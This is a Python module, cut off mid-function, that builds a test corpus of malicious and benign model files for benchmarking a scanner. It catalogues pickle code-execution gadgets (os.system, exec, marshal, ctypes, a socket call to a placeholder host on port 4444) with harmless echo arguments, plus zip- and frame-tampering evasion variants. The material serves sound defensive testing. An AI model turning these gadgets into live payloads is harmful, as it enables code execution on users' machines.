"""A generated corpus of malicious and benign model files, for benchmarking `uptake scan` against peer
scanners and for the scanner's tests.

`build_corpus(root)` writes a few hundred files under `root`, one sub-folder per family, and returns a
`CorpusFile` for each. Every file is produced by this module: pickles are assembled opcode by opcode
(or dumped from stdlib, numpy and scikit-learn objects), containers are written with zipfile, h5py and
the compression modules. Nothing here copies another project's fixtures.

Every malicious file is inert data that is never loaded. Its payload names a real dangerous callable
(`os.system`, `builtins.exec`, `subprocess.Popen`, ...) with harmless arguments such as
`echo uptake-corpus`; building the corpus only writes bytes, and neither this module nor its tests
unpickle, unmarshal or deserialize anything it writes.

The output is deterministic: fixed content, fixed zip dates, seeded random data, no timestamps.
"""

from __future__ import annotations

import base64
import bz2
import datetime
import io
import itertools
import json
import lzma
import marshal
import pickle
import pickletools
import struct
import types
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TypeAlias

import numpy as np

# ------------------------------------------------------------------------------------------ public API


@dataclass(frozen=True)
class CorpusFile:
    path: Path  # the file written
    malicious: bool
    family: str  # one of FAMILIES' keys
    variant: str  # short id unique within the family, e.g. "p0-os.system"


FAMILIES: dict[str, tuple[bool, str]] = {
    "pickle-plain": (True, "ordinary malicious pickles, protocols 0-5, under the usual pickle and PyTorch names"),
    "pickle-odd-start": (True, "protocol 0/1 pickles whose first opcode is not one a magic-byte sniffer expects"),
    "pickle-odd-name": (True, "standard malicious pickles under names no scanner treats as pickles"),
    "pickle-late-stream": (True, "legacy PyTorch files whose 2nd-5th back-to-back pickle is the malicious one"),
    "pickle-broken-tail": (True, "a dangerous call that runs, followed by bytes that do not decode"),
    "zip-tampered": (True, "PyTorch zip checkpoints with a malicious data.pkl and a tampered zip structure"),
    "joblib-compressed": (True, "malicious pickles inside joblib's zlib/gzip/bz2/lzma/xz and legacy ZF containers"),
    "keras-lambda": (True, "Keras .h5 and .keras models with a Lambda layer carrying code"),
    "pickle-frame-tamper": (True, "protocol 4/5 pickles whose FRAME lengths disagree with their opcodes"),
    "npy-object": (True, ".npy/.npz object arrays whose embedded pickle is malicious"),
    "benign-builtins": (False, "pickles of plain containers and scalars, protocols 0-5"),
    "benign-stdlib": (False, "pickles of collections, datetime, decimal, uuid, re, pathlib and dill type helpers"),
    "benign-numpy": (False, "numpy arrays, scalars and dtypes pickled, plus numeric .npy/.npz files"),
    "benign-torch": (False, "hand-built PyTorch checkpoints, zip and legacy, state dicts and full models"),
    "benign-sklearn": (False, "pickle and joblib dumps of fitted scikit-learn models and numpy arrays"),
    "benign-keras": (False, "Keras .h5 and .keras models without Lambda layers"),
    "benign-safetensors": (False, "valid safetensors files"),
}

ZIP_DATE = (1980, 1, 1, 0, 0, 0)
ECHO = "echo uptake-corpus"
ECHO_ARGV: list[Node] = ["echo", "uptake-corpus"]
SOURCE = "import os; os.system('echo uptake-corpus')"
EXPRESSION = "__import__('os').system('echo uptake-corpus')"
HOST = "uptake-corpus.invalid"


# --------------------------------------------------------------------------- pickle opcodes, by hand

MARK, STOP, POP, TUPLE, REDUCE, BUILD, SETITEMS, APPENDS = b"(", b".", b"0", b"t", b"R", b"b", b"u", b"e"
BINPERSID, NEWOBJ, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE = b"Q", b"\x81", b"}", b"]", b")"
MEMOIZE, STACK_GLOBAL, NONE, NEWTRUE, NEWFALSE = b"\x94", b"\x93", b"N", b"\x88", b"\x89"
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"


def proto(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol])


def frame(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


def global_op(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def short_binunicode(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def binunicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def string0(text: str) -> bytes:
    """Protocol 0 STRING, as Python 2 wrote it: a quoted repr."""
    return b"S" + repr(text).encode("ascii") + b"\n"


def unicode0(text: str) -> bytes:
    """Protocol 0 UNICODE, escaped as pickle escapes it."""
    for char, escape in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"), ("\r", "\\u000d")):
        text = text.replace(char, escape)
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def binput(index: int) -> bytes:
    return b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index)


def binget(index: int) -> bytes:
    return b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)


def encode_long(value: int) -> bytes:
    """Two's-complement little-endian bytes, as LONG1 wants them."""
    if value == 0:
        return b""
    raw = value.to_bytes((value.bit_length() >> 3) + 1, "little", signed=True)
    if value < 0 and len(raw) > 1 and raw[-1] == 0xFF and raw[-2] & 0x80:
        raw = raw[:-1]
    return raw


# ------------------------------------------------------------------- a tiny pickle assembler: nodes


@dataclass(frozen=True)
class Ref:
    """A global reference: GLOBAL or STACK_GLOBAL `module.name`."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """`func(*args)`: REDUCE by default, or the older INST/OBJ opcodes."""

    func: Node
    args: tuple[Node, ...] = ()
    style: str = "reduce"  # reduce | inst | obj


@dataclass(frozen=True)
class NewObj:
    """`cls.__new__(cls, *args)`, as protocol 2+ pickles instances (copyreg._reconstructor below 2)."""

    cls: Node
    args: tuple[Node, ...] = ()


@dataclass(frozen=True)
class Build:
    """`obj` then `state`, then BUILD (__setstate__ or __dict__ update)."""

    obj: Node
    state: Node


@dataclass(frozen=True)
class WithItems:
    """`obj` then MARK key value ... SETITEMS, as pickle fills an OrderedDict."""

    obj: Node
    items: tuple[tuple[Node, Node], ...]


@dataclass(frozen=True)
class SetOf:
    items: tuple[Node, ...]
    frozen: bool = False


@dataclass(frozen=True)
class PersistentId:
    """BINPERSID of a tuple (PERSID for a string at protocol 0): what torch.save writes for storages."""

    pid: Node


@dataclass(frozen=True)
class Then:
    """Evaluate `effect`, POP it, then push `value`: a payload that leaves the expected object behind."""

    effect: Node
    value: Node


@dataclass(frozen=True)
class Raw:
    data: bytes


_Leaf: TypeAlias = (
    Ref | Call | NewObj | Build | WithItems | SetOf | PersistentId | Then | Raw | str | bytes | int | float | None
)
Node: TypeAlias = "_Leaf | tuple[Node, ...] | list[Node] | dict[str, Node]"
JSON: TypeAlias = dict[str, Any]


@dataclass
class Assembler:
    """Emits the opcodes a protocol-`protocol` pickler would emit for a node tree.

    `stack_global` picks STACK_GLOBAL over GLOBAL (default: protocol >= 4); `python2_strings` writes
    STRING/BINSTRING instead of UNICODE/BINUNICODE; `memo` memoizes like the pickler does.
    """

    protocol: int
    stack_global: bool | None = None
    memo: bool = True
    python2_strings: bool = False
    out: bytearray = field(default_factory=bytearray)
    memo_size: int = 0
    ref_memo: dict[tuple[str, str], int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if self.stack_global is None:
            self.stack_global = self.protocol >= 4

    @property
    def builtins_module(self) -> str:
        return "builtins" if self.protocol >= 3 else "__builtin__"

    def memoize(self) -> None:
        if not self.memo:
            return
        index, self.memo_size = self.memo_size, self.memo_size + 1
        if self.protocol >= 4:
            self.out += MEMOIZE
        elif self.protocol >= 1:
            self.out += binput(index)
        else:
            self.out += b"p%d\n" % index

    def get(self, index: int) -> None:
        self.out += binget(index) if self.protocol >= 1 else b"g%d\n" % index

    def emit(self, node: Node) -> None:
        if node is None:
            self.out += NONE
        elif isinstance(node, bool):
            self.emit_bool(node)
        elif isinstance(node, int):
            self.emit_int(node)
        elif isinstance(node, float):
            self.out += b"F" + repr(node).encode() + b"\n" if self.protocol == 0 else b"G" + struct.pack(">d", node)
        elif isinstance(node, str):
            self.emit_str(node)
        elif isinstance(node, bytes):
            self.emit_bytes(node)
        elif isinstance(node, tuple):
            self.emit_tuple(node)
        elif isinstance(node, list):
            self.emit_list(node)
        elif isinstance(node, dict):
            self.emit_dict(node)
        elif isinstance(node, Ref):
            self.emit_ref(node)
        elif isinstance(node, Call):
            self.emit_call(node)
        else:
            self.emit_structure(node)

    def emit_structure(self, node: NewObj | Build | WithItems | SetOf | PersistentId | Then | Raw) -> None:
        if isinstance(node, NewObj):
            self.emit_newobj(node)
        elif isinstance(node, Build):
            self.emit(node.obj)
            self.emit(node.state)
            self.out += BUILD
        elif isinstance(node, WithItems):
            self.emit(node.obj)
            self.emit_items(node.items)
        elif isinstance(node, SetOf):
            self.emit_set(node)
        elif isinstance(node, PersistentId):
            if self.protocol == 0 and isinstance(node.pid, str):
                self.out += b"P" + node.pid.encode() + b"\n"
            else:
                self.emit(node.pid)
                self.out += BINPERSID
        elif isinstance(node, Then):
            self.emit(node.effect)
            self.out += POP
            self.emit(node.value)
        else:
            self.out += node.data

    def emit_bool(self, value: bool) -> None:
        if self.protocol >= 2:
            self.out += NEWTRUE if value else NEWFALSE
        else:
            self.out += b"I01\n" if value else b"I00\n"

    def emit_int(self, value: int) -> None:
        if self.protocol == 0:
            self.out += b"I%d\n" % value if -(2**31) <= value < 2**31 else b"L%dL\n" % value
        elif 0 <= value < 256:
            self.out += b"K" + bytes([value])
        elif 0 <= value < 65536:
            self.out += b"M" + struct.pack("<H", value)
        elif -(2**31) <= value < 2**31:
            self.out += b"J" + struct.pack("<i", value)
        elif self.protocol >= 2:
            raw = encode_long(value)
            self.out += b"\x8a" + bytes([len(raw)]) + raw
        else:
            self.out += b"L%dL\n" % value

    def emit_str(self, text: str) -> None:
        raw = text.encode()
        if self.protocol == 0:
            self.out += string0(text) if self.python2_strings else unicode0(text)
        elif self.python2_strings and text.isascii():
            self.out += (b"U" + bytes([len(raw)]) if len(raw) < 256 else b"T" + struct.pack("<I", len(raw))) + raw
        elif self.protocol >= 4 and len(raw) < 256:
            self.out += short_binunicode(text)
        else:
            self.out += binunicode(text)
        self.memoize()

    def emit_bytes(self, data: bytes) -> None:
        if self.protocol < 3:  # as pickle does: bytes did not exist before protocol 3
            self.emit(Call(Ref("_codecs", "encode"), (data.decode("latin-1"), "latin1")))
            return
        self.out += (b"C" + bytes([len(data)]) if len(data) < 256 else b"B" + struct.pack("<I", len(data))) + data
        self.memoize()

    def emit_tuple(self, items: tuple[Node, ...]) -> None:
        if not items:
            self.out += EMPTY_TUPLE if self.protocol >= 1 else MARK + TUPLE
            return
        if self.protocol >= 2 and len(items) <= 3:
            for item in items:
                self.emit(item)
            self.out += (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
        else:
            self.out += MARK
            for item in items:
                self.emit(item)
            self.out += TUPLE
        self.memoize()

    def emit_list(self, items: list[Node]) -> None:
        if self.protocol == 0:
            self.out += MARK + b"l"
            self.memoize()
            for item in items:
                self.emit(item)
                self.out += b"a"
            return
        self.out += EMPTY_LIST
        self.memoize()
        if len(items) == 1:
            self.emit(items[0])
            self.out += b"a"
        elif items:
            self.out += MARK
            for item in items:
                self.emit(item)
            self.out += APPENDS

    def emit_dict(self, items: dict[str, Node]) -> None:
        self.out += MARK + b"d" if self.protocol == 0 else EMPTY_DICT
        self.memoize()
        self.emit_items(tuple(items.items()))

    def emit_items(self, items: Sequence[tuple[Node, Node]]) -> None:
        """SETITEM per item at protocol 0 or for a single item, else MARK ... SETITEMS, as pickle batches."""
        if self.protocol == 0 or len(items) == 1:
            for key, value in items:
                self.emit(key)
                self.emit(value)
                self.out += b"s"
        elif items:
            self.out += MARK
            for key, value in items:
                self.emit(key)
                self.emit(value)
            self.out += SETITEMS

    def emit_set(self, node: SetOf) -> None:
        if self.protocol < 4:
            self.emit(Call(Ref(self.builtins_module, "frozenset" if node.frozen else "set"), (list(node.items),)))
            return
        if node.frozen:
            self.out += MARK
            for item in node.items:
                self.emit(item)
            self.out += b"\x91"
            self.memoize()
        else:
            self.out += b"\x8f"
            self.memoize()
            if node.items:
                self.out += MARK
                for item in node.items:
                    self.emit(item)
                self.out += b"\x90"

    def emit_ref(self, ref: Ref) -> None:
        key = (ref.module, ref.name)
        if self.memo and key in self.ref_memo:
            self.get(self.ref_memo[key])
            return
        if self.stack_global:
            self.emit_str(ref.module)
            self.emit_str(ref.name)
            self.out += STACK_GLOBAL
        else:
            self.out += global_op(ref.module, ref.name)
        self.memoize()
        if self.memo:
            self.ref_memo[key] = self.memo_size - 1

    def emit_call(self, call: Call) -> None:
        if call.style == "inst":
            if not isinstance(call.func, Ref):
                raise TypeError("INST needs a global")
            self.out += MARK
            for arg in call.args:
                self.emit(arg)
            self.out += b"i" + call.func.module.encode() + b"\n" + call.func.name.encode() + b"\n"
        elif call.style == "obj":
            self.out += MARK
            self.emit(call.func)
            for arg in call.args:
                self.emit(arg)
            self.out += b"o"
        else:
            self.emit(call.func)
            self.emit(call.args)
            self.out += REDUCE
        self.memoize()

    def emit_newobj(self, node: NewObj) -> None:
        if self.protocol < 2:
            copyreg = "copyreg" if self.protocol >= 3 else "copy_reg"  # pickle's fix_imports name
            self.emit(Call(Ref(copyreg, "_reconstructor"), (node.cls, Ref(self.builtins_module, "object"), None)))
            return
        self.emit(node.cls)
        self.emit(node.args)
        self.out += NEWOBJ
        self.memoize()


def pickle_body(
    node: Node, protocol: int, *, stack_global: bool | None = None, memo: bool = True, python2_strings: bool = False
) -> bytes:
    """The opcodes for `node` alone: no PROTO, no FRAME, no STOP."""
    assembler = Assembler(protocol, stack_global=stack_global, memo=memo, python2_strings=python2_strings)
    assembler.emit(node)
    return bytes(assembler.out)


def assemble(
    node: Node,
    protocol: int,
    *,
    header: bool = True,
    framed: bool = True,
    stack_global: bool | None = None,
    memo: bool = True,
    python2_strings: bool = False,
) -> bytes:
    """A complete pickle of `node`, laid out as pickle.dumps lays out one of that protocol."""
    body = pickle_body(node, protocol, stack_global=stack_global, memo=memo, python2_strings=python2_strings) + STOP
    prefix = proto(protocol) if protocol >= 2 and header else b""
    if protocol >= 4 and framed and len(body) >= 4:
        prefix += frame(len(body))
    return prefix + body


# ----------------------------------------------------------------------------------------- payloads


def _call_method(obj: Node, method: str, *args: Node) -> Call:
    return Call(Call(Ref("builtins", "getattr"), (obj, method)), args)


def _import(module: str) -> Call:
    return Call(Ref("builtins", "__import__"), (module,))


def _inner_pickle() -> bytes:
    return assemble(Call(Ref("os", "system"), (ECHO,)), 2)


def _lambda_code(expression: str) -> bytes:
    """marshal of a lambda's code object, as Keras stores it. Marshalled here, never unmarshalled."""
    module_code = compile(f"lambda x: {expression}", "<uptake-corpus>", "eval")
    code = next(const for const in module_code.co_consts if isinstance(const, types.CodeType))
    return marshal.dumps(code)


def _payloads() -> list[tuple[str, Node]]:
    """(key, node): a call of a dangerous callable with harmless arguments; `key` names that callable."""
    function_code = marshal.dumps(compile(SOURCE, "<uptake-corpus>", "exec"))
    return [
        ("os.system", Call(Ref("os", "system"), (ECHO,))),
        ("posix.system", Call(Ref("posix", "system"), (ECHO,))),
        ("nt.system", Call(Ref("nt", "system"), (ECHO,))),
        ("os.popen", Call(Ref("os", "popen"), (ECHO,))),
        ("subprocess.Popen", Call(Ref("subprocess", "Popen"), (ECHO_ARGV,))),
        ("subprocess.run", Call(Ref("subprocess", "run"), (ECHO_ARGV,))),
        ("subprocess.check_output", Call(Ref("subprocess", "check_output"), (ECHO_ARGV,))),
        ("subprocess.getoutput", Call(Ref("subprocess", "getoutput"), (ECHO,))),
        ("subprocess.call", Call(Ref("subprocess", "call"), (ECHO, -1, None, None, None, None, None, True, True))),
        ("builtins.eval", Call(Ref("builtins", "eval"), (EXPRESSION,))),
        ("__builtin__.eval", Call(Ref("__builtin__", "eval"), (EXPRESSION,))),
        ("builtins.exec", Call(Ref("builtins", "exec"), (SOURCE,))),
        ("__builtin__.exec", Call(Ref("__builtin__", "exec"), (SOURCE,))),
        (
            "builtins.compile",
            Call(Ref("builtins", "exec"), (Call(Ref("builtins", "compile"), (SOURCE, "<x>", "exec")),)),
        ),
        ("builtins.getattr", _call_method(_import("os"), "system", ECHO)),
        ("builtins.__import__", _call_method(_import("subprocess"), "getoutput", ECHO)),
        ("builtins.open", Call(Ref("builtins", "open"), ("/tmp/uptake-corpus.txt", "w"))),
        ("_io.FileIO", Call(Ref("_io", "FileIO"), ("/tmp/uptake-corpus.txt", "w"))),
        ("runpy._run_code", Call(Ref("runpy", "_run_code"), (SOURCE, {}))),
        ("runpy.run_path", Call(Ref("runpy", "run_path"), ("/tmp/uptake-corpus.py",))),
        ("webbrowser.open", Call(Ref("webbrowser", "open"), (f"http://{HOST}/",))),
        ("socket.create_connection", Call(Ref("socket", "create_connection"), ((HOST, 4444),))),
        ("shutil.rmtree", Call(Ref("shutil", "rmtree"), ("/tmp/uptake-corpus-does-not-exist",))),
        ("importlib.import_module", _call_method(Call(Ref("importlib", "import_module"), ("os",)), "system", ECHO)),
        (
            "operator.attrgetter",
            Call(Call(Call(Ref("operator", "attrgetter"), ("system",)), (_import("os"),)), (ECHO,)),
        ),
        ("operator.methodcaller", Call(Call(Ref("operator", "methodcaller"), ("system", ECHO)), (_import("os"),))),
        ("_operator.methodcaller", Call(Call(Ref("_operator", "methodcaller"), ("system", ECHO)), (_import("os"),))),
        ("functools.partial", Call(Call(Ref("functools", "partial"), (Ref("os", "system"), ECHO)), ())),
        ("pickle.loads", Call(Ref("pickle", "loads"), (_inner_pickle(),))),
        ("_pickle.loads", Call(Ref("_pickle", "loads"), (_inner_pickle(),))),
        (
            "marshal.loads",
            Call(Call(Ref("types", "FunctionType"), (Call(Ref("marshal", "loads"), (function_code,)), {})), ()),
        ),
        (
            "types.FunctionType",
            Call(Call(Ref("types", "FunctionType"), (Call(Ref("marshal", "loads"), (function_code,)), {})), ()),
        ),
        ("code.InteractiveInterpreter", _call_method(Call(Ref("code", "InteractiveInterpreter")), "runsource", SOURCE)),
        ("pty.spawn", Call(Ref("pty", "spawn"), (ECHO_ARGV,))),
        (
            "asyncio.subprocess.create_subprocess_shell",
            Call(Ref("asyncio.subprocess", "create_subprocess_shell"), (ECHO,)),
        ),
        ("ctypes.CDLL", _call_method(Call(Ref("ctypes", "CDLL"), ("libc.so.6",)), "system", ECHO.encode())),
        ("sys.modules", _call_method(_call_method(Ref("sys", "modules"), "get", "os"), "system", ECHO)),
        ("pip.main", Call(Ref("pip", "main"), (["--version"],))),
        ("bdb.Bdb", _call_method(Call(Ref("bdb", "Bdb")), "run", SOURCE)),
        ("cProfile.run", Call(Ref("cProfile", "run"), (SOURCE,))),
        ("profile.run", Call(Ref("profile", "run"), (SOURCE,))),
        ("timeit.timeit", Call(Ref("timeit", "timeit"), (SOURCE, "pass", Ref("time", "perf_counter"), 1))),
        ("pydoc.locate", Call(Call(Ref("pydoc", "locate"), ("os.system",)), (ECHO,))),
        ("pkgutil.resolve_name", Call(Call(Ref("pkgutil", "resolve_name"), ("os:system",)), (ECHO,))),
        ("urllib.request.urlopen", Call(Ref("urllib.request", "urlopen"), (f"http://{HOST}/",))),
        ("uuid._get_command_stdout", Call(Ref("uuid", "_get_command_stdout"), tuple(ECHO_ARGV))),
        ("imaplib.IMAP4_stream", Call(Ref("imaplib", "IMAP4_stream"), (ECHO,))),
        ("doctest.debug_script", Call(Ref("doctest", "debug_script"), (SOURCE,))),
        (
            "numpy.testing._private.utils.runstring",
            Call(Ref("numpy.testing._private.utils", "runstring"), (SOURCE, {})),
        ),
        (
            "torch.jit.unsupported_tensor_ops.execWrapper",
            Call(Ref("torch.jit.unsupported_tensor_ops", "execWrapper"), (SOURCE, {}, {})),
        ),
    ]


PAYLOADS: dict[str, Node] = dict(_payloads())


def _payload_cycle(keys: Sequence[str] | None = None) -> Iterator[tuple[str, Node]]:
    """Payloads round-robin, so every family spreads over many callables."""
    chosen = list(keys) if keys is not None else list(PAYLOADS)
    index = 0
    while True:
        key = chosen[index % len(chosen)]
        yield key, PAYLOADS[key]
        index += 1


class _Reducing:
    """Pickles as `func(*args)`: how a library dump (joblib, numpy) carries a payload. Dumping never calls
    `func`; the pickler only records its module and name."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args

    @property
    def key(self) -> str:
        return f"{self.func.__module__}.{self.func.__qualname__}"


def _reducing_payloads() -> list[_Reducing]:
    import builtins
    import os
    import runpy
    import shutil
    import socket
    import subprocess
    import webbrowser

    return [
        _Reducing(os.system, ECHO),
        _Reducing(subprocess.check_output, ECHO_ARGV),
        _Reducing(builtins.exec, SOURCE),
        _Reducing(subprocess.Popen, ECHO_ARGV),
        _Reducing(builtins.eval, EXPRESSION),
        _Reducing(runpy._run_code, SOURCE, {}),  # type: ignore[attr-defined]
        _Reducing(webbrowser.open, f"http://{HOST}/"),
        _Reducing(shutil.rmtree, "/tmp/uptake-corpus-does-not-exist"),
        _Reducing(socket.create_connection, (HOST, 4444)),
    ]


# ------------------------------------------------------------------------------------ the writer


@dataclass
class _Writer:
    root: Path
    files: list[CorpusFile] = field(default_factory=list)

    def path(self, family: str, name: str) -> Path:
        path = self.root / family / name
        path.parent.mkdir(parents=True, exist_ok=True)
        return path

    def record(self, family: str, variant: str, path: Path) -> None:
        if any(f.family == family and f.variant == variant for f in self.files):
            raise ValueError(f"duplicate variant {family}/{variant}")
        self.files.append(CorpusFile(path, FAMILIES[family][0], family, variant))

    def add(self, family: str, variant: str, data: bytes, suffix: str = ".pkl", name: str | None = None) -> None:
        path = self.path(family, name or variant.replace(".", "_") + suffix)
        path.write_bytes(data)
        self.record(family, variant, path)


# ---------------------------------------------------------------------------------------- containers


def zip_bytes(
    members: Sequence[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED, zip64: bool = False
) -> bytes:
    """A zip with fixed dates and attributes, so its bytes never change."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the tampering variants
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, data in members:
                info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
                info.compress_type = compression
                info.create_system = 3
                info.external_attr = 0o644 << 16
                with archive.open(info, "w", force_zip64=zip64) as member:
                    member.write(data)
    return buffer.getvalue()


@dataclass(frozen=True)
class ZipEntry:
    name: str
    local: int  # offset of the local file header
    central: int  # offset of the central-directory header


def zip_entries(blob: bytes) -> list[ZipEntry]:
    end = blob.rfind(b"PK\x05\x06")
    count, _, offset = struct.unpack_from("<HII", blob, end + 10)
    entries, position = [], offset
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", blob, position + 28)
        (local,) = struct.unpack_from("<I", blob, position + 42)
        name = blob[position + 46 : position + 46 + name_length].decode()
        entries.append(ZipEntry(name, local, position))
        position += 46 + name_length + extra_length + comment_length
    return entries


def _patch(blob: bytes, offset: int, fmt: str, *values: int) -> bytes:
    patched = bytearray(blob)
    struct.pack_into(fmt, patched, offset, *values)
    return bytes(patched)


def _entry(blob: bytes, name: str) -> ZipEntry:
    return next(entry for entry in zip_entries(blob) if entry.name == name)


def npy_header(descr: str, shape: tuple[int, ...], fortran_order: bool = False, version: int = 1) -> bytes:
    """The .npy magic and header dict, padded to 64 bytes as numpy pads it."""
    text = f"{{'descr': '{descr}', 'fortran_order': {fortran_order}, 'shape': {shape!r}, }}"
    size_format = "<H" if version == 1 else "<I"
    preamble = 6 + 2 + struct.calcsize(size_format)
    padding = -(preamble + len(text) + 1) % 64
    header = (text + " " * padding + "\n").encode("latin-1" if version < 3 else "utf-8")
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack(size_format, len(header)) + header


def npy_bytes(array: np.ndarray, version: tuple[int, int] | None = None) -> bytes:
    """What np.save writes (object arrays pickled with protocol 3). Writing never runs a payload."""
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, array, version=version, allow_pickle=True)
    return buffer.getvalue()


def zlib_stream(data: bytes, wbits: int = zlib.MAX_WBITS) -> bytes:
    """joblib's BinaryZlibFile (wbits 15) and BinaryGzipFile (wbits 31) at compress level 3."""
    compressor = zlib.compressobj(3, zlib.DEFLATED, wbits, zlib.DEF_MEM_LEVEL, 0)
    return compressor.compress(data) + compressor.flush()


def joblib_legacy_zfile(data: bytes) -> bytes:
    """joblib < 0.9.3: b"ZF", the hex length padded to 19 characters, then zlib."""
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data, 1)


# ------------------------------------------------------------------------------------- PyTorch nodes


def ordered_dict(*items: tuple[Node, Node]) -> Node:
    empty = Call(Ref("collections", "OrderedDict"), ())
    return WithItems(empty, items) if items else empty


def _contiguous_stride(shape: tuple[int, ...]) -> tuple[int, ...]:
    strides, step = [], 1
    for size in reversed(shape):
        strides.append(step)
        step *= size
    return tuple(reversed(strides))


@dataclass(frozen=True)
class Tensor:
    storage_type: str  # FloatStorage, HalfStorage, LongStorage, ...
    key: str
    shape: tuple[int, ...]
    offset: int = 0
    numel: int | None = None  # of the storage; defaults to the tensor's

    def node(self, legacy: bool = False) -> Node:
        numel = self.numel if self.numel is not None else int(np.prod(self.shape))
        pid: tuple[Node, ...] = ("storage", Ref("torch", self.storage_type), self.key, "cpu", numel)
        if legacy:
            pid += (None,)
        args = (PersistentId(pid), self.offset, self.shape, _contiguous_stride(self.shape), False, ordered_dict())
        return Call(Ref("torch._utils", "_rebuild_tensor_v2"), args)

    def parameter(self, legacy: bool = False) -> Node:
        return Call(Ref("torch._utils", "_rebuild_parameter"), (self.node(legacy), True, ordered_dict()))


_DTYPES = {"FloatStorage": "<f4", "HalfStorage": "<f2", "LongStorage": "<i8", "CharStorage": "i1"}


def storage_bytes(tensor: Tensor, seed: int) -> bytes:
    numel = tensor.numel if tensor.numel is not None else int(np.prod(tensor.shape))
    if tensor.storage_type == "BFloat16Storage":  # the top halves of float32s
        values = np.random.default_rng(seed).standard_normal(numel).astype("<f4")
        return (values.view("<u4") >> 16).astype("<u2").tobytes()
    values = np.random.default_rng(seed).standard_normal(numel) * 10
    return values.astype(_DTYPES[tensor.storage_type]).tobytes()


def state_dict(tensors: dict[str, Tensor], legacy: bool = False) -> Node:
    metadata = ordered_dict(("", {"version": 1}))
    return Build(ordered_dict(*((name, t.node(legacy)) for name, t in tensors.items())), {"_metadata": metadata})


def module_node(cls: Node, parameters: dict[str, Node], children: dict[str, Node], **attributes: Node) -> Node:
    """An nn.Module as torch.save(model) pickles it: NEWOBJ of the class, BUILD of its __dict__."""
    hooks = [
        "_backward_pre_hooks",
        "_backward_hooks",
        "_forward_hooks",
        "_forward_hooks_with_kwargs",
        "_forward_hooks_always_called",
        "_forward_pre_hooks",
        "_forward_pre_hooks_with_kwargs",
        "_state_dict_hooks",
        "_state_dict_pre_hooks",
        "_load_state_dict_pre_hooks",
        "_load_state_dict_post_hooks",
    ]
    state: dict[str, Node] = {
        "training": True,
        "_parameters": ordered_dict(*parameters.items()),
        "_buffers": ordered_dict(),
        "_non_persistent_buffers_set": SetOf(()),
        **{hook: ordered_dict() for hook in hooks},
        "_is_full_backward_hook": None,
        "_modules": ordered_dict(*children.items()),
        **attributes,
    }
    return Build(NewObj(cls), state)


def torch_class(module: str, name: str, legacy: bool) -> Node:
    """A module class; the legacy format records it as a ('module', cls, file, source) persistent id."""
    ref = Ref(module, name)
    if not legacy:
        return ref
    source = f"class {name}(Module):\n    ...\n"
    return PersistentId(("module", ref, f"/usr/lib/python3/site-packages/{module.replace('.', '/')}.py", source))


def mlp_node(tensors: dict[str, Tensor], legacy: bool = False, user_class: bool = False) -> Node:
    def linear(prefix: str, size_in: int, size_out: int) -> Node:
        parameters = {"weight": tensors[f"{prefix}.weight"].parameter(legacy)}
        parameters["bias"] = tensors[f"{prefix}.bias"].parameter(legacy)
        cls = torch_class("torch.nn.modules.linear", "Linear", legacy)
        return module_node(cls, parameters, {}, in_features=size_in, out_features=size_out)

    relu = module_node(torch_class("torch.nn.modules.activation", "ReLU", legacy), {}, {}, inplace=False)
    children = {"0": linear("0", 4, 3), "1": relu, "2": linear("2", 3, 2)}
    if user_class:
        return module_node(Ref("__main__", "Net"), {}, {"fc1": children["0"], "act": relu, "fc2": children["2"]})
    return module_node(torch_class("torch.nn.modules.container", "Sequential", legacy), {}, children)


MLP_TENSORS = {
    "0.weight": Tensor("FloatStorage", "0", (3, 4)),
    "0.bias": Tensor("FloatStorage", "1", (3,)),
    "2.weight": Tensor("FloatStorage", "2", (2, 3)),
    "2.bias": Tensor("FloatStorage", "3", (2,)),
}


def torch_zip(
    data_pkl: bytes,
    tensors: Sequence[Tensor],
    prefix: str = "archive",
    new_layout: bool = False,
    compression: int = zipfile.ZIP_STORED,
) -> bytes:
    """A zip checkpoint as torch.save writes one: data.pkl, byteorder, data/<key>, version."""
    members = [(f"{prefix}/data.pkl", data_pkl)]
    if new_layout:
        members += [(f"{prefix}/.format_version", b"1"), (f"{prefix}/.storage_alignment", b"64")]
    members.append((f"{prefix}/byteorder", b"little"))
    seen = set()
    for seed, tensor in enumerate(tensors):
        if tensor.key not in seen:
            seen.add(tensor.key)
            members.append((f"{prefix}/data/{tensor.key}", storage_bytes(tensor, seed)))
    members.append((f"{prefix}/version", b"3\n"))
    if new_layout:
        members.append((f"{prefix}/.data/serialization_id", b"1234567890123456789012345678901234567890"))
    return zip_bytes(members, compression)


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_SYS_INFO: dict[str, Node] = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}


def legacy_streams(main: Node, tensors: Sequence[Tensor]) -> list[Node]:
    """The five pickles of the legacy format: magic, protocol version, sys_info, object, storage keys."""
    keys = sorted({tensor.key for tensor in tensors})
    key_list: list[Node] = list(keys)
